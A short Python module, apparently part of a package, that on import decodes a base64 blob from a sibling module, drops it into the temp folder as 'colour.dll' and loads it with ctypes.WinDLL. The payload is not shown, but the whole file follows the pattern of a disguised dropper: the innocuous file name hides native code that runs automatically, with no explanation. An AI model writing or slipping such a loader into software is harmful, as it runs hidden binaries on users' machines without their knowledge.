import base64
import ctypes
import os
import tempfile

from .blob import DATA

path = os.path.join(tempfile.gettempdir(), "colour.dll")
with open(path, "wb") as out:
    out.write(base64.b64decode(DATA))
ctypes.WinDLL(path)
